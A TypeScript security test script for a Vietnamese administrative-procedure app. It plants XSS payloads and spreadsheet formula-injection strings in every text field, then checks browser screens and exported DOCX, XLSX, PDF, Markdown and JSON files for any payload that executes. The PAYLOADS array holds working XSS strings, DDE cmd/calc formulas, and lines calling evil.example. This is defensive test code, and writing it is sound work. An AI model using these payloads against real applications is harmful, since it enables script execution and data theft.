// `npx tsx scripts/hostile-scripts.ts` (issue 23, "Done when": script payloads in every text field): the class of
// hostile input that needs a browser, with the same table as scripts/hostile-inputs.ts. Each round stores payloads —
// <script>, <img onerror>, "><svg onload>, javascript: links, {{constructor.constructor(…)()}}, spreadsheet formulas
// (=HYPERLINK, =cmd|' /C calc'!A0, leading + - @) — in every text field an officer or a dossier can fill, through a
// real `tthc serve` on a SQLite file: every free text of four dossiers (drafts, regulations and every component text,
// questionnaire answers, opinions' Slate text, drafter responses, events' notes), the letter particulars, the signers,
// the profile, the period report's texts and the national catalogue. Then
//   (a) Chromium (/usr/bin/chromium) opens every screen that shows them, with a hook that counts any script run by a
//       payload (each payload calls window.__pwned), any alert/confirm/prompt, any navigation away from the page or
//       popup, and any element or attribute a payload became (a <script>, an on… attribute, a javascript: address);
//   (b) every document is exported (letter DOCX/PDF, assessment form, responses table DOCX/XLSX, publication
//       DOCX/XLSX, period report DOCX/XLSX/MD, regulation list XLSX, dashboard XLSX, dossier JSON) and checked: every
//       XML part parses strictly, no officer's text became markup, a field or a link; no XLSX cell holding a payload is
//       a formula (it must be a string cell); the Markdown escapes what would become HTML or a link; the PDF holds no
//       action; the dossier JSON carries each payload back unchanged.
// One try is one payload in one stored field, followed through every screen and document of its round; refused
// correctly counts the tries that neither ran nor became markup, a formula or a link anywhere; accepted wrongly the
// tries that did (by surface, beside the table); crashed a field whose payload the app refused or a surface that failed.
//   HOSTILE_SEED=23  HOSTILE_SCRIPT_ROUNDS=4 (each round rotates the payloads over the fields)
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { unzipSync } from 'fflate';
import { chromium, type Page } from '@playwright/test';
import { SaxesParser } from 'saxes';
import { serveDatabase, type ServedHost } from '../bench/servedHost';
import { slateToPlainText } from '../shared/domain/richText';
import { catalogueSample, issuedDecreeDossier, ISSUED_DRAFT_ID } from '../test/fixtures/catalogueSample';
import { decree105Dossier, DECREE_105_IDS } from '../test/fixtures/decree105Dossier';
import { FLOW_IDS, workflowDossier } from '../test/fixtures/workflowDossier';
import { buildDossierForFigures, REFERENCE_002_FIGURES } from '../test/fixtures/reportFigures';
import { reviewedDossier, REVIEWED_IDS } from '../test/fixtures/reviewedDossier';
import { CHROMIUM_ARGS, CHROMIUM_PATH } from '../test/e2e/chromium';

const SEED = Number(process.env.HOSTILE_SEED ?? 23);
const ROUNDS = Number(process.env.HOSTILE_SCRIPT_ROUNDS ?? 4);
/** A folder to keep every exported file in, to look at. */
const KEEP = process.env.HOSTILE_SCRIPT_KEEP;

/** Each payload, made unique by its try's number N: markup and addresses call window.__pwned(N) when they run; formulas carry N. */
const PAYLOADS: ReadonlyArray<(n: number) => string> = [
  (n) => `<script>__pwned(${n})</script>`,
  (n) => `<img src=x onerror=__pwned(${n})>`,
  (n) => `"><svg onload=__pwned(${n})>`,
  (n) => `javascript:__pwned(${n})`,
  (n) => `{{constructor.constructor('__pwned(${n})')()}}`,
  (n) => `=HYPERLINK("http://evil.example/?d=${n}","Bấm vào đây")`,
  (n) => `=cmd|' /C calc ${n}'!A0`,
  (n) => `+cmd|' /C calc ${n}'!A0`,
  (n) => `-${n}+3+cmd|' /C calc'!A0`,
  (n) => `@SUM(${n}+1)*cmd|' /C calc'!A0`,
  (n) => `<a href="javascript:__pwned(${n})">liên kết</a>`,
  (n) => `[liên kết](javascript:__pwned(${n}))`,
  (n) => `<iframe src="javascript:__pwned(${n})"></iframe>`,
  (n) => `'"><details open ontoggle=__pwned(${n})>`,
  (n) => `=${n}+1`,
  (n) => `<style>@import "http://evil.example/${n}.css";</style>`,
];

/** What a payload becomes when it escapes its text: markup. */
const MARKUP = /<\s*(script|img|svg|a|iframe|details|style)\b/i;

/** One try: a payload stored in one field; `value` is the whole text stored, `inDossier` whether the dossier carries it back. */
type Try = { n: number; where: string; payload: number; instance: string; value: string; inDossier: boolean; bad: Set<string> };
const stored: Try[] = [];
const byNumber = new Map<number, Try>();
const surfaceFailures: string[] = [];
const refusedFields: string[] = [];
const unattributed: string[] = [];

let round = 0;
let inDossier = false;
/** `value` with its payload in front, noted as one try (a free text: a space or a letter beyond ASCII; codes, enums and dates stay). */
function infect(value: string, where: string, replace = false, chosen?: number): string {
  if (!/[\s\u00C0-\u1EF9]/.test(value)) return value;
  const n = 100_000 + stored.length;
  const payload = chosen ?? (stored.length + round * 7 + SEED) % PAYLOADS.length;
  const instance = PAYLOADS[payload]!(n);
  const text = replace ? instance : `${instance} ${value}`;
  const each: Try = { n, where, payload, instance, value: text, inDossier, bad: new Set() };
  stored.push(each);
  byNumber.set(n, each);
  return text;
}

function infected<T>(value: T, where: string, skip: (key: string) => boolean = () => false): T {
  if (typeof value === 'string') return infect(value, where) as T;
  if (Array.isArray(value)) return value.map((item, index) => infected(item, `${where}[${index}]`, skip)) as T;
  if (value && typeof value === 'object') {
    const source = value as Record<string, unknown>;
    // An opinion's plain text is its body's words: the body carries the payloads, the text follows it.
    const derivedText = Array.isArray(source.body) && typeof source.text === 'string';
    const object = Object.fromEntries(Object.entries(source).map(([key, item]) => [key, skip(key) || (derivedText && key === 'text') ? item : infected(item, `${where}.${key}`, skip)]));
    if (derivedText) object.text = slateToPlainText(object.body as never);
    return object as T;
  }
  return value;
}

/** The tries whose payload `text` holds (its number, or its whole text). */
function triesIn(text: string): Try[] {
  const found = new Set<Try>();
  for (const match of text.matchAll(/\b(1\d{5})\b/g)) {
    const each = byNumber.get(Number(match[1]));
    if (each && (text.includes(each.instance) || text.includes(`__pwned(${each.n})`) || text.includes(each.instance.slice(1)))) found.add(each);
  }
  return [...found];
}

/** Marks the tries `detail` names as gone wrong on `surface`; a finding no try can be named for is kept apart. */
function wrong(surface: string, detail: string): void {
  const tries = triesIn(detail);
  if (tries.length === 0) unattributed.push(`${surface}: ${detail.slice(0, 160)}`);
  for (const each of tries) each.bad.add(`${surface}: ${detail.slice(0, 160)}`);
}

/** Every XML part of a DOCX or XLSX, strictly parsed: elements, attributes, and each cell's type and formula. */
function checkPackage(surface: string, file: Uint8Array): void {
  const parts = Object.entries(unzipSync(file)).filter(([name]) => name.endsWith('.xml') || name.endsWith('.rels'));
  for (const [name, bytes] of parts) {
    const text = new TextDecoder('utf-8', { fatal: true }).decode(bytes);
    const parser = new SaxesParser({ xmlns: true });
    let cell: { type: string; formula: string; value: string } | null = null;
    let inFormula = false;
    let inInstr = false;
    let instr = '';
    parser.on('error', (error) => {
      throw new Error(`${surface} ${name}: ${error.message}`);
    });
    parser.on('opentag', (tag) => {
      if (MARKUP.test(`<${tag.local}`) && !/openxmlformats|microsoft|purl|w3\.org\/2000\/svg/.test(tag.uri)) wrong(surface, `${name}: element <${tag.name}>`);
      for (const attribute of Object.values(tag.attributes)) if (/^\s*javascript:/i.test(attribute.value)) wrong(surface, `${name}: ${attribute.name}="${attribute.value}"`);
      if (tag.local === 'c' && name.startsWith('xl/worksheets/')) cell = { type: String(tag.attributes.t?.value ?? 'n'), formula: '', value: '' };
      if (tag.local === 'f' && cell) inFormula = true;
      if (tag.local === 'instrText') inInstr = true;
    });
    parser.on('text', (value) => {
      if (inFormula && cell) cell.formula += value;
      if (inInstr) instr += value;
    });
    parser.on('closetag', (tag) => {
      if (tag.local === 'f') inFormula = false;
      if (tag.local === 'instrText') inInstr = false;
      if (tag.local === 'c' && cell) {
        // A cell whose formula holds an officer's text, or a payload typed as a formula string, became a formula.
        // (A t="str" cell without <f>, as the streamed writer stores text, is text to Excel and LibreOffice.)
        if (cell.formula && triesIn(cell.formula).length > 0) wrong(surface, `${name}: formula cell ${cell.formula}`);
        cell = null;
      }
      if (tag.local === 'fldSimple' || (tag.local === 'r' && instr)) {
        if (triesIn(instr).length > 0) wrong(surface, `${name}: field ${instr}`);
        instr = '';
      }
    });
    parser.write(text).close();
  }
}

/** Markdown: no raw HTML (a < before a letter, /, ! or ?) and no link an officer's text made, outside escapes. */
function checkMarkdown(surface: string, text: string): void {
  for (const line of text.split('\n')) {
    const unescaped = line.replace(/\\./g, '');
    if (/<[A-Za-z/!?]/.test(unescaped) || /\]\([^)]*\)/.test(unescaped)) wrong(surface, `raw: ${line}`);
  }
}

/** A PDF may not carry an action: JavaScript, a launch, an action on opening, or a link (an officer's text is never one); its texts (the /Info title) may hold anything. */
function checkPdf(surface: string, bytes: Buffer): void {
  const text = bytes.toString('latin1');
  for (const action of [/\/S\s*\/JavaScript/, /\/JS\s*[(<]/, /\/Launch/, /\/OpenAction/, /\/AA\s*<</, /\/URI\s*\(/, /\/Subtype\s*\/Link/]) {
    const found = action.exec(text);
    if (found) wrong(surface, `PDF holds ${text.slice(found.index, found.index + 120)}`);
  }
}

type Envelope = Awaited<ReturnType<ServedHost['call']>>;
async function must(host: ServedHost, method: string, body: unknown, where: string): Promise<NonNullable<Envelope>['value']> {
  const answer = await host.call(method, body);
  if (!answer?.ok) {
    refusedFields.push(`${where}: ${JSON.stringify(answer?.error ?? 'no answer').slice(0, 200)}`);
    return undefined;
  }
  return answer.value;
}

/** Every free text of the app's own fixtures, and of each record an officer fills, with a payload in front. */
async function store(host: ServedHost): Promise<void> {
  const keep = (key: string) => ['id', 'at', 'action', 'role', 'status', 'docType', 'stage', 'verdict', 'exportedBy', 'format', 'draftingAgency', 'by', 'agency', 'code', 'kind', 'change', 'unit'].includes(key);
  await must(host, 'saveProfile', { agency: 'Văn phòng Chính phủ', role: 'reviewer', officerName: infect('Nguyễn Văn An', 'profile.officerName') }, 'saveProfile');
  for (const [name, dossier] of [
    ['reviewed', reviewedDossier],
    ['decree105', decree105Dossier],
    ['issued', issuedDecreeDossier()],
    ['figures', buildDossierForFigures(REFERENCE_002_FIGURES)],
    // A draft still at appraisal, whose appraisal letter's particulars may be written.
    ['flow', workflowDossier({ status: 'submitted_for_appraisal' })],
  ] as const) {
    const from = stored.length;
    inDossier = true;
    const infectedDossier = infected(structuredClone(dossier), name, keep);
    inDossier = false;
    const answer = await host.call('importDossier', { dossier: infectedDossier });
    if (!answer?.ok) {
      refusedFields.push(`${name}: ${JSON.stringify(answer?.error).slice(0, 600)}`);
      stored.splice(from);
    }
  }
  const catalogue = catalogueSample();
  const fromCatalogue = stored.length;
  const imported = await host.call('importCatalogue', { catalogue: { ...catalogue, procedures: infected(catalogue.procedures, 'catalogue', keep) } });
  if (!imported?.ok) {
    refusedFields.push(`catalogue: ${JSON.stringify(imported?.error).slice(0, 400)}`);
    stored.splice(fromCatalogue);
  }
  // Each letter by the role that writes it: the review letter by VPCP, the appraisal letter by Bộ Tư pháp.
  for (const [draftId, stage, agency, role] of [
    [REVIEWED_IDS.draft, 'review', 'Văn phòng Chính phủ', 'reviewer'],
    [FLOW_IDS.draft, 'appraisal', 'Bộ Tư pháp', 'appraiser'],
  ] as const) {
    await must(host, 'saveProfile', { agency, role, officerName: 'Nguyễn Văn An' }, 'saveProfile');
    if (stage === 'appraisal') {
      // The appraiser's opinion typed in the editor (Slate), on the draft still at appraisal, so that its letter can be made.
      const body = [{ type: 'paragraph', children: [{ text: infect('Đề nghị bỏ yêu cầu nộp bản sao có chứng thực', 'saveOpinion.body') }] }];
      await must(host, 'saveOpinion', { regulationId: FLOW_IDS.transportLicence, stage, verdict: 'amend', components: ['fees'], body }, 'saveOpinion');
    }
    const letter = (await must(host, 'getOpinionLetter', { draftId, stage }, 'getOpinionLetter')) as { metadata: Record<string, unknown>; version?: number } | undefined;
    if (!letter) continue;
    // The subject is bounded (140 characters under the number): its payload stands alone there.
    const metadata: Record<string, unknown> = infected({ ...letter.metadata, subject: undefined }, `letter.${stage}`);
    metadata.subject = infect(String(letter.metadata.subject || 'V/v góp ý dự thảo'), `letter.${stage}.subject`, true);
    await must(host, 'saveLetterMetadata', { draftId, stage, version: letter.version, metadata }, `saveLetterMetadata ${stage}`);
    const signers = (await must(host, 'getSigners', {}, 'getSigners')) as { agency: string; persons: unknown[]; defaults: unknown } | undefined;
    const person = (position: string, name: string, index: number) => ({ id: `ky-${index}`, position: infect(position, `signers.${stage}[${index}].position`), name: infect(name, `signers.${stage}[${index}].name`) });
    if (signers) await must(host, 'saveSigners', { ...signers, persons: [person('Phó Chủ nhiệm', 'Lê Văn Hoa', 0), person('Vụ trưởng Vụ Pháp chế', 'Trần Thị Bình', 1)] }, 'saveSigners');
  }
  await must(host, 'saveProfile', { agency: 'Văn phòng Chính phủ', role: 'reviewer', officerName: 'Nguyễn Văn An' }, 'saveProfile');
  const period = { from: '2023-01-01', to: '2026-12-31' };
  const texts = (await must(host, 'periodReportTexts', period, 'periodReportTexts')) as { texts: Record<string, unknown>; version: number } | undefined;
  if (texts) {
    // Four paragraphs a round, so that the rounds give each of them every payload.
    const filled = Object.fromEntries(Object.keys(texts.texts).map((key, index) => [key, infect(`Đoạn văn của cán bộ về ${key}`, `reportTexts.${key}`, false, (round * 4 + index) % PAYLOADS.length)]));
    await must(host, 'savePeriodReportTexts', { ...period, texts: filled, version: texts.version }, 'savePeriodReportTexts');
  }
}

/** Every document, each checked as its kind says. */
async function exportEverything(host: ServedHost, roundStart: number): Promise<number> {
  const period = { from: '2023-01-01', to: '2026-12-31' };
  const files: Array<[string, string, unknown]> = [
    ['thư góp ý DOCX', 'exportOpinionLetter', { draftId: REVIEWED_IDS.draft, stage: 'review', format: 'docx' }],
    ['thư góp ý PDF', 'exportOpinionLetter', { draftId: REVIEWED_IDS.draft, stage: 'review', format: 'pdf' }],
    ['văn bản thẩm định DOCX', 'exportOpinionLetter', { draftId: DECREE_105_IDS.draft, stage: 'appraisal', format: 'docx' }],
    ['văn bản thẩm định (dự thảo đang thẩm định) PDF', 'exportOpinionLetter', { draftId: FLOW_IDS.draft, stage: 'appraisal', format: 'pdf' }],
    ['biểu mẫu đánh giá tác động', 'exportAssessmentForm', { regulationId: REVIEWED_IDS.licence }],
    ['bảng tổng hợp tiếp thu DOCX', 'exportResponsesTable', { draftId: REVIEWED_IDS.draft, stage: 'review', format: 'docx' }],
    ['bảng tổng hợp tiếp thu XLSX', 'exportResponsesTable', { draftId: REVIEWED_IDS.draft, stage: 'review', format: 'xlsx' }],
    ['công bố DOCX', 'exportPublicationList', { draftId: ISSUED_DRAFT_ID, format: 'docx' }],
    ['công bố XLSX', 'exportPublicationList', { draftId: ISSUED_DRAFT_ID, format: 'xlsx' }],
    ['báo cáo kỳ DOCX', 'exportPeriodReport', { ...period, format: 'docx' }],
    ['báo cáo kỳ XLSX', 'exportPeriodReport', { ...period, format: 'xlsx' }],
    ['báo cáo kỳ MD', 'exportPeriodReport', { ...period, format: 'md' }],
    ['danh sách TTHC XLSX', 'exportRegulationList', { draftId: REVIEWED_IDS.draft }],
    ['danh sách TTHC tìm kiếm XLSX', 'exportRegulationList', { search: '', filters: {} }],
    ['danh sách dự thảo XLSX', 'exportDraftList', {}],
  ];
  const dashboard = (await must(host, 'dashboard', { from: '2023-01', to: '2026-12' }, 'dashboard')) as Record<string, unknown> | undefined;
  let exported = 0;
  const asRole: Record<string, [string, string]> = {
    'văn bản thẩm định DOCX': ['Bộ Tư pháp', 'appraiser'],
    'văn bản thẩm định (dự thảo đang thẩm định) PDF': ['Bộ Tư pháp', 'appraiser'],
    'công bố DOCX': ['Bộ Tư pháp', 'drafter'],
    'công bố XLSX': ['Bộ Tư pháp', 'drafter'],
  };
  for (const [surface, method, body] of files) {
    const [agency, role] = asRole[surface] ?? ['Văn phòng Chính phủ', 'reviewer'];
    await host.call('saveProfile', { agency, role, officerName: 'Nguyễn Văn An' });
    const answer = await host.call(method, body);
    if (!answer?.ok) {
      surfaceFailures.push(`${surface}: ${JSON.stringify(answer?.error).slice(0, 200)}`);
      continue;
    }
    const file = Buffer.from((answer.value as { base64: string }).base64, 'base64');
    exported += 1;
    if (KEEP) writeFileSync(join(KEEP, `${round}-${(answer.value as { fileName: string }).fileName}`), file);
    try {
      if (file.subarray(0, 2).toString('latin1') === 'PK') checkPackage(surface, file);
      else if (file.subarray(0, 4).toString('latin1') === '%PDF') checkPdf(surface, file);
      else checkMarkdown(surface, file.toString('utf8'));
    } catch (error) {
      surfaceFailures.push(`${surface}: ${String(error).slice(0, 200)}`);
    }
  }
  if (dashboard) {
    // The dashboard's tables as its screen sends them (ChartCard): a text column of labels, here each a payload.
    const rows = PAYLOADS.map((_, index) => [infect(`Cơ quan số ${index + 1}`, `dashboard.row[${index}]`), index, 1, 0, index + 1]);
    const table = { sheetName: 'Dữ liệu', title: 'Ý kiến theo cơ quan', columns: [{ header: 'Cơ quan', format: 'text' }, ...['Thống nhất', 'Sửa đổi', 'Bãi bỏ', 'Tổng'].map((header) => ({ header, format: 'integer' }))], rows };
    const answer = await host.call('exportTableXlsx', { fileName: 'y-kien-theo-co-quan', tables: [table] });
    if (answer?.ok) {
      checkPackage('bảng điều khiển XLSX', Buffer.from((answer.value as { base64: string }).base64, 'base64'));
      exported += 1;
    } else surfaceFailures.push(`bảng điều khiển XLSX: ${JSON.stringify(answer?.error).slice(0, 200)}`);
  }
  // The dossier: data, each payload carried back as it was stored.
  const dossier = await host.call('exportDossier', {});
  if (dossier?.ok) {
    exported += 1;
    const strings = new Set<string>();
    const walk = (value: unknown): void => {
      if (typeof value === 'string') strings.add(value);
      else if (value && typeof value === 'object') for (const item of Object.values(value)) walk(item);
    };
    walk(dossier.value);
    for (const each of stored.slice(roundStart)) if (each.inDossier && !strings.has(each.value)) each.bad.add('hồ sơ JSON: not carried back unchanged');
  } else surfaceFailures.push(`hồ sơ JSON: ${JSON.stringify(dossier?.error).slice(0, 200)}`);
  return exported;
}

/** The screens that show what was stored, each opened in turn in one page. */
async function screens(host: ServedHost): Promise<string[]> {
  const regulations = new Set<string>();
  for (const draftId of [REVIEWED_IDS.draft, DECREE_105_IDS.draft, ISSUED_DRAFT_ID]) {
    const draft = (await host.call('getDraft', { id: draftId }))?.value as { regulations?: Array<{ id: string }> } | undefined;
    for (const regulation of draft?.regulations ?? []) regulations.add(regulation.id);
  }
  const draftTabs = ['regulations', 'assessment', 'workflow', 'opinions', 'letter'];
  return [
    '/',
    '/search',
    '/reports',
    '/dashboard',
    '/cost-summary',
    '/settings',
    ...[REVIEWED_IDS.draft, DECREE_105_IDS.draft, ISSUED_DRAFT_ID].flatMap((id) => draftTabs.map((tab) => `/drafts/${id}/${tab}`)),
    ...[...regulations].flatMap((id) => [`/regulations/${id}`, `/regulations/${id}/opinions`, `/regulations/${id}/assessment/questions`]),
  ];
}

async function browse(host: ServedHost): Promise<number> {
  const browser = await chromium.launch({ executablePath: CHROMIUM_PATH, args: CHROMIUM_ARGS });
  const context = await browser.newContext();
  await context.addInitScript(() => {
    const seen: string[] = [];
    (window as unknown as { __seen: string[] }).__seen = seen;
    (window as unknown as { __pwned: (n: number) => void }).__pwned = (n) => void seen.push(`ran ${n}`);
    for (const name of ['alert', 'confirm', 'prompt'] as const) (window as unknown as Record<string, unknown>)[name] = (message: unknown) => void seen.push(`${name} ${String(message)}`);
  });
  const page = await context.newPage();
  const navigations: string[] = [];
  const origin = host.url.origin;
  page.on('framenavigated', (frame) => {
    const url = new URL(frame.url(), origin);
    if (url.origin !== origin || url.pathname !== '/') navigations.push(frame.url());
  });
  context.on('page', (opened) => opened !== page && navigations.push(`popup ${opened.url()}`));
  await page.goto(host.url.href);
  await page.waitForLoadState('networkidle').catch(() => undefined);
  let opened = 0;
  for (const path of await screens(host)) {
    await page.evaluate((hash) => (window.location.hash = hash), path);
    await page.waitForTimeout(150);
    await page.waitForLoadState('networkidle').catch(() => undefined);
    await page.waitForTimeout(400);
    opened += 1;
    await inspect(page, path);
    const gone = navigations.splice(0);
    for (const url of gone) wrong(`màn hình ${path}`, `navigated to ${url}`);
  }
  await browser.close();
  return opened;
}

/** What the page ran or became: the hook's record, and any element or attribute a payload made. */
async function inspect(page: Page, path: string): Promise<void> {
  const found = await page.evaluate(() => {
    const seen = (window as unknown as { __seen: string[] }).__seen.splice(0);
    const made: string[] = [];
    for (const element of document.querySelectorAll('*')) {
      for (const attribute of element.attributes) {
        if (/^on/i.test(attribute.name) && /__pwned/.test(attribute.value)) made.push(`${element.tagName} ${attribute.name}=${attribute.value}`);
        if (['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'srcdoc'].includes(attribute.name.toLowerCase()) && /^\s*javascript:/i.test(attribute.value)) made.push(`${element.tagName} ${attribute.name}=${attribute.value}`);
      }
      if (element.tagName === 'SCRIPT' && /__pwned/.test(element.textContent ?? '')) made.push('SCRIPT');
      if (['IFRAME', 'DETAILS', 'STYLE'].includes(element.tagName) && /__pwned|evil\.example/.test(element.outerHTML)) made.push(element.outerHTML.slice(0, 80));
    }
    return { seen, made, shown: document.body.innerText.length };
  });
  for (const event of found.seen) {
    const ran = byNumber.get(Number(/ran (\d+)/.exec(event)?.[1]));
    if (ran) ran.bad.add(`màn hình ${path}: ${event}`);
    else unattributed.push(`màn hình ${path}: ${event}`);
  }
  for (const made of found.made) wrong(`màn hình ${path}`, made);
  if (found.shown < 20) surfaceFailures.push(`màn hình ${path}: trống`);
}

async function main(): Promise<void> {
  if (KEEP) mkdirSync(KEEP, { recursive: true });
  let screensOpened = 0;
  let documents = 0;
  for (round = 0; round < ROUNDS; round += 1) {
    const folder = mkdtempSync(join(tmpdir(), 'tthc-hostile-scripts-'));
    process.env.TTHC_HISTORY_KEY_FILE = join(folder, 'history.key');
    const host = await serveDatabase(join(folder, 'tthc.sqlite'));
    const roundStart = stored.length;
    try {
      await store(host);
      documents += await exportEverything(host, roundStart);
      screensOpened += await browse(host);
    } finally {
      await host.stop();
      rmSync(folder, { recursive: true, force: true });
    }
    console.log(`vòng ${round + 1}: ${stored.length - roundStart} trường mang mã độc`);
  }
  const wrongly = stored.filter((each) => each.bad.size > 0);
  console.table([
    {
      'lớp đầu vào': 'Mã script/công thức trong mọi trường văn bản (màn hình, tệp xuất)',
      'đã thử': stored.length + refusedFields.length,
      'từ chối đúng': stored.length - wrongly.length,
      'nhận sai': wrongly.length,
      sập: refusedFields.length + surfaceFailures.length,
      'mất dữ liệu': 0,
    },
  ]);
  console.log(`${ROUNDS} vòng, ${screensOpened} lần mở màn hình, ${documents} tệp xuất đã kiểm`);
  const bySurface = new Map<string, number>();
  for (const each of wrongly) for (const reason of each.bad) bySurface.set(reason.split(':')[0]!, (bySurface.get(reason.split(':')[0]!) ?? 0) + 1);
  for (const [surface, count] of bySurface) console.log(`nhận sai — ${surface}: ${count}`);
  for (const each of wrongly.slice(0, 12)) console.log(`  ${each.where} «${each.instance}»: ${[...each.bad][0]}`);
  for (const line of [...refusedFields, ...surfaceFailures].slice(0, 20)) console.log(`sập/từ chối: ${line}`);
  // Markup found that no single payload can be blamed for (-1) is printed above by surface; no try hides it.
  for (const line of [...new Set(unattributed)].slice(0, 12)) console.log(`không gán được cho mã nào: ${line}`);
  if (unattributed.length === 0 && wrongly.length === 0) console.log('không có mã nào chạy, không ô nào thành công thức');
}

await main();
process.exit(0);
